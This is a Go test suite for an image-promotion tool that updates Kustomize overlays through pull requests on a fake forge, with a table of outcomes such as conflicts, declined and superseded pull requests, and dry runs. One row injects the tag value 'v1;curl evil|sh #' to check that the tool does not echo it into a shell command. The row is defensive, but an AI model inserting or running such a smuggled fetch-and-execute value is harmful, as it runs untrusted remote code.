package promote_test

import (
	"context"
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"tagboat/image"
	"tagboat/overlay"
	"tagboat/promote"
	"tagboat/registry"
	"tagboat/registry/registrytest"
	"tagboat/scm"
	"tagboat/scm/scmtest"
)

// world is a config repository on one fake forge, and a registry.
type world struct {
	*testing.T
	store    *scmtest.Store
	repo     scm.Repository
	images   *registrytest.Registry
	promoter *promote.Promoter
	calls    calls
	fixed    bool // a watched branch that conflicts cannot be rebuilt
}

const (
	target = "overlays/staging"
	file   = target + "/kustomization.yaml"
	branch = "tagboat/staging/todo-api"
)

func newWorld(t *testing.T, forge forgeFor) *world {
	w := &world{T: t, images: registrytest.New()}
	t.Cleanup(w.images.Close)
	v1 := w.push("todo-api:v1", 1)
	web := w.push("todo-web:v1", 1)
	w.store = scmtest.NewStore("main", map[string]string{
		file: "# staging\nresources:\n- ../../base\n\nimages:\n- name: todo-api\n  newName: " + w.ref("todo-api") +
			"\n  newTag: v1\n  digest: " + v1 + "\n- name: todo-web # the front\n  newName: " + w.ref("todo-web") + "\n  newTag: v1\n  digest: " + web + "\n",
		"base/kustomization.yaml": "resources:\n- deployment.yaml\n",
		"base/deployment.yaml":    deployment("todo-api") + "---\n" + deployment("todo-web"),
		"README.md":               "config\n",
	})
	w.repo, w.fixed = forge.open(t, w.store, w.transport()), forge.fixed
	client, err := registry.New(registry.Options{Env: func(string) string { return "" }, ConfigDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	w.promoter = &promote.Promoter{
		Registry: client,
		Open:     func(context.Context, string, string) (scm.Repository, error) { return w.repo, nil },
		Sleep:    func(context.Context, time.Duration) error { return nil },
	}
	return w
}

func deployment(name string) string {
	return "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: " + name + "\nspec:\n  template:\n    spec:\n      containers:\n      - name: main\n        image: " + name + "\n"
}

func (w *world) ref(name string) string { return w.images.Host() + "/acme/" + name }

// push pushes an image that was created so many days after a start.
func (w *world) push(name string, day int) (digest string) {
	w.Helper()
	digest, err := w.images.PushImage("acme/"+name, registrytest.ImageSpec{
		Platforms: []string{"linux/amd64", "linux/arm64"}, Content: fmt.Sprint(name, day),
		Created: time.Date(2026, 3, day, 12, 0, 0, 0, time.UTC),
	})
	if err != nil {
		w.Fatal(err)
	}
	return digest
}

type option func(*promote.Request)

func again(q *promote.Request)      { q.Again = true }
func allowOlder(q *promote.Request) { q.AllowOlder = true }
func force(q *promote.Request)      { q.Force = true }
func dryRun(q *promote.Request)     { q.DryRun = true }

func (w *world) request(images string, options ...option) promote.Request {
	q := promote.Request{Repository: "acme/config", Base: "main", Path: target, App: "todo-api", Prove: overlay.ProveRequired}
	for name := range strings.FieldsSeq(images) {
		ref, err := image.Parse(w.ref(name))
		if err != nil {
			w.Fatal(err)
		}
		q.Images = append(q.Images, ref)
	}
	for _, o := range options {
		o(&q)
	}
	return q
}

func (w *world) run(images string, options ...option) (promote.Result, error) {
	return w.promoter.Run(context.Background(), w.request(images, options...))
}

// want runs a promotion and demands its outcome.
func (w *world) want(outcome promote.Outcome, images string, options ...option) promote.Result {
	w.Helper()
	res, err := w.run(images, options...)
	if err != nil || res.Outcome != outcome {
		w.Fatalf("promote %s: %s (%s), %v; want %s", images, res.Outcome, res.Reason, err, outcome)
	}
	return res
}

func (w *world) wantError(cause error, words string, images string, options ...option) {
	w.Helper()
	res, err := w.run(images, options...)
	if !errors.Is(err, cause) || !strings.Contains(fmt.Sprint(err), words) {
		w.Fatalf("promote %s: %s, %v; want %v with %q", images, res.Outcome, err, cause, words)
	}
}

// at reads the overlay on a branch.
func (w *world) at(branch string) string {
	w.Helper()
	sha, ok := w.store.Branch(branch)
	if !ok {
		return "(no branch)"
	}
	b, _, err := w.store.ReadFile(sha, file)
	if err != nil {
		w.Fatal(err)
	}
	return string(b)
}

func (w *world) head() string {
	sha, _ := w.store.Branch(branch)
	return sha
}

// pulls lists the pull requests as "1 open".
func (w *world) pulls() string {
	var out []string
	for _, p := range w.store.Pulls(func(scmtest.Pull) bool { return true }) {
		out = append(out, fmt.Sprintf("%d %s", p.Number, p.State))
	}
	slices.Sort(out)
	return strings.Join(out, ", ")
}

func (w *world) wantPulls(want string) {
	w.Helper()
	if got := w.pulls(); got != want {
		w.Fatalf("pull requests: %q, want %q", got, want)
	}
}

// replace makes a person's commit that changes words of a file.
func (w *world) replace(branch, path, old, new string) {
	w.Helper()
	sha, _ := w.store.Branch(branch)
	b, _, err := w.store.ReadFile(sha, path)
	if err != nil {
		w.Fatal(err)
	}
	if !strings.Contains(string(b), old) {
		w.Fatalf("%s has no %q", path, old)
	}
	w.must(w.store.Push(branch, "mei", "Change "+old, map[string]string{path: strings.Replace(string(b), old, new, 1)}))
}

func (w *world) must(sha string, err error) string {
	w.Helper()
	if err != nil {
		w.Fatal(err)
	}
	return sha
}

// merges has a person merge pull request 1 right after its branch has moved.
type merges struct {
	scm.Repository
	w    *world
	done bool
}

func (m *merges) Commit(ctx context.Context, d scm.Draft) (scm.Commit, error) {
	if !m.done {
		m.done = true
		m.w.must(m.w.store.MergePullRequest(1, "squash"))
	}
	return m.Repository.Commit(ctx, d)
}

// TestTable goes down the table of outcomes row by row, on every forge.
func TestTable(t *testing.T) {
	rows := map[string]func(w *world){
		"nothing, base has it": func(w *world) {
			w.want(promote.UpToDate, "todo-api:v1")
			w.wantPulls("")
			if w.head() != "" {
				w.Error("a branch was made")
			}
		},
		"nothing, base has not": func(w *world) {
			v2 := w.push("todo-api:v2", 2)
			res := w.want(promote.Opened, "todo-api:v2")
			w.wantPulls("1 open")
			if res.PullRequest.Number != 1 || res.PullRequest.URL == "" || res.Proof.Status != overlay.Proven {
				w.Errorf("result: %+v", res)
			}
			if got := w.at(branch); !strings.Contains(got, "newTag: v2\n  digest: "+v2) || !strings.Contains(got, "# the front") {
				w.Errorf("head branch:\n%s", got)
			}
		},
		"open, same digest": func(w *world) {
			w.push("todo-api:v2", 2)
			w.want(promote.Opened, "todo-api:v2")
			head := w.head()
			w.want(promote.Unchanged, "todo-api:v2")
			if w.head() != head {
				w.Error("the branch moved")
			}
			w.wantPulls("1 open")
		},
		"open, same digest, base moved elsewhere in the file": func(w *world) {
			w.push("todo-api:v2", 2)
			w.want(promote.Opened, "todo-api:v2")
			head := w.head()
			w.replace("main", file, "# staging", "# the staging environment")
			w.want(promote.Unchanged, "todo-api:v2")
			if w.head() != head {
				w.Error("the branch moved, and approvals with it")
			}
		},
		"open, same digest, conflicts": func(w *world) {
			v2 := w.push("todo-api:v2", 2)
			w.want(promote.Opened, "todo-api:v2")
			w.replace("main", file, "newTag: v1\n", "newTag: v1-hotfix\n")
			if w.fixed {
				w.wantError(scm.ErrUnsupported, "merge the base branch into it", "todo-api:v2")
				return
			}
			w.want(promote.Updated, "todo-api:v2")
			w.wantPulls("1 open")
			if got := w.at(branch); !strings.Contains(got, v2) {
				w.Errorf("head branch:\n%s", got)
			}
			if ok, err := w.store.Mergeable(1); err != nil || !ok {
				w.Errorf("still conflicts: %v", err)
			}
		},
		"open, same digest, base has it by another way": func(w *world) {
			w.push("todo-api:v2", 2)
			w.want(promote.Opened, "todo-api:v2")
			w.must(w.store.Push("main", "mei", "By hand", map[string]string{file: w.at(branch)}))
			res := w.want(promote.UpToDate, "todo-api:v2")
			w.wantPulls("1 closed")
			if !strings.Contains(res.Reason, "superseded") {
				w.Errorf("reason: %s", res.Reason)
			}
		},
		"open, other digest": func(w *world) {
			w.push("todo-api:v2", 2)
			w.want(promote.Opened, "todo-api:v2")
			v3 := w.push("todo-api:v3", 3)
			w.want(promote.Updated, "todo-api:v3")
			w.wantPulls("1 open")
			if got := w.at(branch); !strings.Contains(got, v3) || strings.Contains(got, "v2") {
				w.Errorf("head branch:\n%s", got)
			}
			p, err := w.store.Pull(1)
			if err != nil || !strings.Contains(p.Title, "v3") || !strings.Contains(p.Body, v3) || !strings.Contains(p.Body, "Approvals given before") {
				w.Errorf("pull request: %v %q\n%s", err, p.Title, p.Body)
			}
		},
		"open, other digest, an older job runs again": func(w *world) {
			w.push("todo-api:v2", 2)
			w.push("todo-api:v3", 3)
			w.want(promote.Opened, "todo-api:v3")
			head := w.head()
			res := w.want(promote.Outdated, "todo-api:v2")
			if w.head() != head || !strings.Contains(res.Reason, "v3") {
				w.Errorf("head moved, or reason %q", res.Reason)
			}
			w.want(promote.Updated, "todo-api:v2", allowOlder)
		},
		"open with a newer digest, base has what is asked": func(w *world) {
			w.push("todo-api:v2", 2)
			w.want(promote.Opened, "todo-api:v2")
			w.want(promote.UpToDate, "todo-api:v1")
			w.wantPulls("1 open")
		},
		"open with an older digest, base has what is asked": func(w *world) {
			w.push("todo-api:v2", 2)
			w.want(promote.Opened, "todo-api:v2")
			v3 := w.push("todo-api:v3", 3)
			w.must(w.store.Push("main", "mei", "By hand", map[string]string{file: strings.Replace(w.at("main"),
				"newTag: v1\n  digest: "+digestIn(w.at("main")), "newTag: v3\n  digest: "+v3, 1)}))
			w.want(promote.UpToDate, "todo-api:v3")
			w.wantPulls("1 closed")
		},
		"base pins something newer": func(w *world) {
			w.push("todo-api:v0", 1)
			w.must(w.store.Push("main", "mei", "By hand", map[string]string{file: strings.Replace(w.at("main"),
				digestIn(w.at("main")), w.push("todo-api:v5", 5), 1)}))
			res := w.want(promote.Outdated, "todo-api:v0")
			if !strings.Contains(res.Reason, "2026-03-01") {
				w.Errorf("reason: %s", res.Reason)
			}
			w.wantPulls("")
		},
		"open, someone's commits, base has it": func(w *world) {
			w.push("todo-api:v2", 2)
			w.want(promote.Opened, "todo-api:v2")
			w.must(w.store.Push("main", "mei", "By hand", map[string]string{file: w.at(branch)}))
			w.must(w.store.Push(branch, "mei", "More", map[string]string{"README.md": "more\n"}))
			head := w.head()
			w.want(promote.UpToDate, "todo-api:v2")
			w.wantPulls("1 open")
			if w.head() != head {
				w.Error("mei's commit is lost")
			}
		},
		"open, someone's commits, base has not": func(w *world) {
			w.push("todo-api:v2", 2)
			w.want(promote.Opened, "todo-api:v2")
			w.must(w.store.Push(branch, "mei", "More replicas", map[string]string{"README.md": "more\n"}))
			head := w.head()
			w.push("todo-api:v3", 3)
			w.wantError(promote.ErrForeign, "mei", "todo-api:v3")
			w.wantError(promote.ErrForeign, "--force", "todo-api:v2")
			if w.head() != head {
				w.Error("mei's commit is lost")
			}
			if w.fixed {
				w.wantError(scm.ErrUnsupported, "", "todo-api:v3", force)
				return
			}
			w.want(promote.Updated, "todo-api:v3", force)
			if sha := w.head(); sha == head {
				w.Error("--force did not go on")
			}
			w.want(promote.Unchanged, "todo-api:v3")
		},
		"someone changed the image's own line on the head branch": func(w *world) {
			w.push("todo-api:v2", 2)
			w.want(promote.Opened, "todo-api:v2")
			w.replace(branch, file, "newTag: v2", "newTag: v2-mei")
			w.wantError(promote.ErrForeign, "mei", "todo-api:v2")
		},
		"update branch counts as ours": func(w *world) {
			w.push("todo-api:v2", 2)
			w.want(promote.Opened, "todo-api:v2")
			w.must(w.store.Push("main", "mei", "Elsewhere", map[string]string{"README.md": "new\n"}))
			w.must(w.store.UpdateBranch(1))
			w.want(promote.Unchanged, "todo-api:v2")
			w.push("todo-api:v3", 3)
			w.want(promote.Updated, "todo-api:v3")
			w.want(promote.Unchanged, "todo-api:v3")
		},
		"closed unmerged by a person": func(w *world) {
			w.push("todo-api:v2", 2)
			w.want(promote.Opened, "todo-api:v2")
			if err := w.store.ClosePullRequest(1, "mei"); err != nil {
				w.Fatal(err)
			}
			res := w.want(promote.Declined, "todo-api:v2")
			if res.PullRequest == nil || res.PullRequest.Number != 1 || res.PullRequest.URL == "" {
				w.Errorf("no link: %+v", res.PullRequest)
			}
			w.wantPulls("1 closed")
			w.push("todo-api:v3", 3)
			w.want(promote.Opened, "todo-api:v3")
			w.wantPulls("1 closed, 2 open")
		},
		"closed by a person, again": func(w *world) {
			w.push("todo-api:v2", 2)
			w.want(promote.Opened, "todo-api:v2")
			if err := w.store.ClosePullRequest(1, "mei"); err != nil {
				w.Fatal(err)
			}
			w.want(promote.Opened, "todo-api:v2", again)
			w.wantPulls("1 closed, 2 open")
		},
		"closed by a person, branch deleted": func(w *world) {
			w.push("todo-api:v2", 2)
			w.want(promote.Opened, "todo-api:v2")
			if err := w.store.ClosePullRequest(1, "mei"); err != nil {
				w.Fatal(err)
			}
			if err := w.store.DeleteBranch(branch, w.head()); err != nil {
				w.Fatal(err)
			}
			w.want(promote.Declined, "todo-api:v2")
		},
		"merged, later taken back": func(w *world) {
			w.push("todo-api:v2", 2)
			w.want(promote.Opened, "todo-api:v2")
			merge := w.must(w.store.MergePullRequest(1, "merge"))
			w.want(promote.UpToDate, "todo-api:v2")
			w.must(w.store.Revert("main", merge))
			res := w.want(promote.Declined, "todo-api:v2")
			if !strings.Contains(res.Reason, "taken back") {
				w.Errorf("reason: %s", res.Reason)
			}
			w.want(promote.Opened, "todo-api:v2", again)
		},
		"merged and squashed, next digest": func(w *world) {
			w.push("todo-api:v2", 2)
			w.want(promote.Opened, "todo-api:v2")
			w.must(w.store.MergePullRequest(1, "squash"))
			w.want(promote.UpToDate, "todo-api:v2")
			v3 := w.push("todo-api:v3", 3)
			w.want(promote.Opened, "todo-api:v3")
			w.wantPulls("1 merged, 2 open")
			if ok, err := w.store.Mergeable(2); err != nil || !ok || !strings.Contains(w.at(branch), v3) {
				w.Errorf("mergeable %v %v:\n%s", ok, err, w.at(branch))
			}
		},
		"our branch without a pull request": func(w *world) {
			w.push("todo-api:v2", 2)
			forge := w.repo
			w.repo = dies{forge}
			w.wantError(errDied, "the next run goes on from here", "todo-api:v2")
			head := w.head()
			w.repo = forge
			w.want(promote.Opened, "todo-api:v2")
			if head == "" || w.head() != head {
				w.Errorf("the branch was made again: %s, then %s", head, w.head())
			}
			w.want(promote.Unchanged, "todo-api:v2")
		},
		"a run that died between branch and text": func(w *world) {
			w.push("todo-api:v2", 2)
			w.want(promote.Opened, "todo-api:v2")
			v3 := w.push("todo-api:v3", 3)
			forge := w.repo
			w.repo = dies{forge}
			w.wantError(errDied, "", "todo-api:v3")
			w.repo = forge
			w.want(promote.Updated, "todo-api:v3")
			if p, err := w.store.Pull(1); err != nil || !strings.Contains(p.Body, v3) {
				w.Errorf("the text is of another digest: %v\n%s", err, p.Body)
			}
			w.want(promote.Unchanged, "todo-api:v3")
		},
		"digest alone, then the tag of the same digest": func(w *world) {
			v2 := w.push("todo-api:v2", 2)
			w.want(promote.Opened, "todo-api@"+v2)
			w.want(promote.Unchanged, "todo-api:v2")
			w.want(promote.Unchanged, "todo-api@"+v2)
		},
		"an older job over a base that pins a tag alone": func(w *world) {
			w.push("todo-api:v5", 5)
			w.push("todo-api:v2", 2)
			w.replace("main", file, "newTag: v1\n  digest: "+digestIn(w.at("main")), "newTag: v5")
			w.want(promote.Outdated, "todo-api:v2")
			w.want(promote.Opened, "todo-api:v5")
		},
		"merged while it is updated": func(w *world) {
			v2 := w.push("todo-api:v2", 2)
			w.want(promote.Opened, "todo-api:v2")
			v3 := w.push("todo-api:v3", 3)
			w.repo = &merges{Repository: w.repo, w: w}
			w.want(promote.Opened, "todo-api:v3")
			w.wantPulls("1 merged, 2 open")
			p, err := w.store.Pull(1)
			if err != nil || strings.Contains(p.Body, v3) || !strings.Contains(p.Body, v2) || strings.Contains(p.Title, "v3") {
				w.Errorf("the merged pull request says something else now: %v %s\n%s", err, p.Title, p.Body)
			}
		},
		"two base branches": func(w *world) {
			w.push("todo-api:v2", 2)
			if err := w.store.CreateBranch("release", w.tip("main")); err != nil {
				w.Fatal(err)
			}
			w.want(promote.Opened, "todo-api:v2", func(q *promote.Request) { q.Base = "release" })
			w.wantError(promote.ErrOtherTarget, "on release", "todo-api:v2")
		},
		"the base is the head branch": func(w *world) {
			w.push("todo-api:v2", 2)
			w.want(promote.Opened, "todo-api:v2")
			head := w.head()
			w.push("todo-api:v3", 3)
			w.wantError(promote.ErrMisused, "own head branch", "todo-api:v3", func(q *promote.Request) { q.Base = branch })
			if w.head() != head {
				w.Error("the branch moved")
			}
		},
		"a no is kept while another digest is proposed": func(w *world) {
			w.push("todo-api:v2", 2)
			w.push("todo-api:v3", 3)
			w.want(promote.Opened, "todo-api:v3")
			if err := w.store.ClosePullRequest(1, "mei"); err != nil {
				w.Fatal(err)
			}
			w.want(promote.Opened, "todo-api:v2")
			w.want(promote.Declined, "todo-api:v3")
			if strings.Contains(w.at(branch), "v3") {
				w.Error("the declined digest is proposed")
			}
		},
		"a group's older half does not undo the base": func(w *world) {
			w.push("todo-api:v2", 2)
			w.push("todo-web:v2", 2)
			w.want(promote.Opened, "todo-api:v2 todo-web:v2")
			v5 := w.push("todo-api:v5", 5)
			w.replace("main", file, "newTag: v1\n  digest: "+digestIn(w.at("main")), "newTag: v5\n  digest: "+v5)
			w.push("todo-web:v3", 3)
			if w.fixed {
				w.wantError(scm.ErrUnsupported, "", "todo-web:v3")
				return
			}
			res := w.want(promote.Updated, "todo-web:v3")
			if !strings.Contains(w.at(branch), v5) || len(res.Warnings) == 0 {
				w.Errorf("the base is undone: %v\n%s", res.Warnings, w.at(branch))
			}
		},
		"a tag in the file that is no tag": func(w *world) {
			w.push("todo-api:v2", 2)
			w.replace("main", file, "newTag: v1\n  digest", "newTag: \"v1;curl evil|sh #\"\n  digest")
			res := w.want(promote.Opened, "todo-api:v2")
			if strings.Contains(res.Body, "```sh") {
				w.Errorf("a command with it:\n%s", res.Body)
			}
			w.want(promote.Unchanged, "todo-api:v2")
		},
		"auto-merge is cleared before another digest is there": func(w *world) {
			w.push("todo-api:v2", 2)
			auto := func(q *promote.Request) { q.AutoMerge = true }
			if _, err := w.run("todo-api:v2", auto); err != nil {
				w.Skipf("no auto-merge here: %v", err)
			}
			if p, err := w.store.Pull(1); err != nil || !p.AutoMerge {
				w.Fatalf("auto-merge was not set: %v", err)
			}
			w.push("todo-api:v3", 3)
			w.repo = dies{w.repo}
			w.wantError(errDied, "", "todo-api:v3")
			if p, err := w.store.Pull(1); err != nil || p.AutoMerge {
				w.Errorf("auto-merge of the earlier digest is still set: %v", err)
			}
		},
		"a branch of another promotion": func(w *world) {
			w.push("todo-api:v2", 2)
			w.must(w.store.Push("main", "mei", "Another overlay", map[string]string{"other/staging/kustomization.yaml": w.at("main")}))
			w.want(promote.Opened, "todo-api:v2", func(q *promote.Request) { q.Path = "other/staging" })
			w.wantError(promote.ErrOtherTarget, "other/staging", "todo-api:v2")
		},
		"several images, one commit": func(w *world) {
			w.push("todo-api:v2", 2)
			w.push("todo-web:v2", 2)
			res := w.want(promote.Opened, "todo-api:v2 todo-web:v2")
			if len(res.Changes) != 2 {
				w.Errorf("changes: %+v", res.Changes)
			}
			w.wantPulls("1 open")
		},
		"a group is the union of its runs": func(w *world) {
			v2, web := w.push("todo-api:v2", 2), w.push("todo-web:v2", 2)
			w.want(promote.Opened, "todo-api:v2")
			w.want(promote.Updated, "todo-web:v2")
			if got := w.at(branch); !strings.Contains(got, v2) || !strings.Contains(got, web) {
				w.Errorf("head branch:\n%s", got)
			}
			w.want(promote.Unchanged, "todo-api:v2")
			w.want(promote.Unchanged, "todo-api:v2 todo-web:v2")
		},
		"a declined half does not come back": func(w *world) {
			v2, web := w.push("todo-api:v2", 2), w.push("todo-web:v2", 2)
			w.want(promote.Opened, "todo-api:v2")
			if err := w.store.ClosePullRequest(1, "mei"); err != nil {
				w.Fatal(err)
			}
			w.want(promote.Opened, "todo-web:v2")
			if got := w.at(branch); strings.Contains(got, v2) || !strings.Contains(got, web) {
				w.Errorf("head branch:\n%s", got)
			}
		},
		"a fork's branch of the same name is nobody": func(w *world) {
			v2 := w.push("todo-api:v2", 2)
			if _, err := w.store.OpenForkPull(scmtest.NewPull{Head: branch, Base: "main", Title: "mine", Author: "eve", Fork: "eve/config"},
				map[string]string{"README.md": "eve\n"}); err != nil {
				w.Fatal(err)
			}
			w.want(promote.Opened, "todo-api:v2")
			w.wantPulls("1 open, 2 open")
			if !strings.Contains(w.at(branch), v2) {
				w.Error("no promotion")
			}
		},
		"dry run": func(w *world) {
			v2 := w.push("todo-api:v2", 2)
			res := w.want(promote.Planned, "todo-api:v2", dryRun)
			if !strings.Contains(res.Diff, "+  digest: "+v2) || !strings.Contains(res.Body, v2) || !strings.Contains(res.Title, "v1 → v2") {
				w.Errorf("plan: %s\n%s\n%s", res.Title, res.Diff, res.Body)
			}
			w.wantPulls("")
			if w.head() != "" {
				w.Error("a branch was made")
			}
		},
		"no base named": func(w *world) {
			w.push("todo-api:v2", 2)
			w.want(promote.Opened, "todo-api:v2", func(q *promote.Request) { q.Base = "" })
			w.want(promote.Unchanged, "todo-api:v2", func(q *promote.Request) { q.Base = "" })
		},
	}
	for name, forge := range forges() {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			for row, test := range rows {
				t.Run(row, func(t *testing.T) { test(newWorld(t, forge)) })
			}
		})
	}
}

var errDied = errors.New("died")

// dies is a repository on which a run dies before it has made the pull request.
type dies struct{ scm.Repository }

func (dies) Propose(context.Context, scm.Proposal) (scm.PullRequest, error) {
	return scm.PullRequest{}, errDied
}

func digestIn(text string) string {
	_, after, _ := strings.Cut(text, "digest: ")
	return after[:len("sha256:")+64]
}
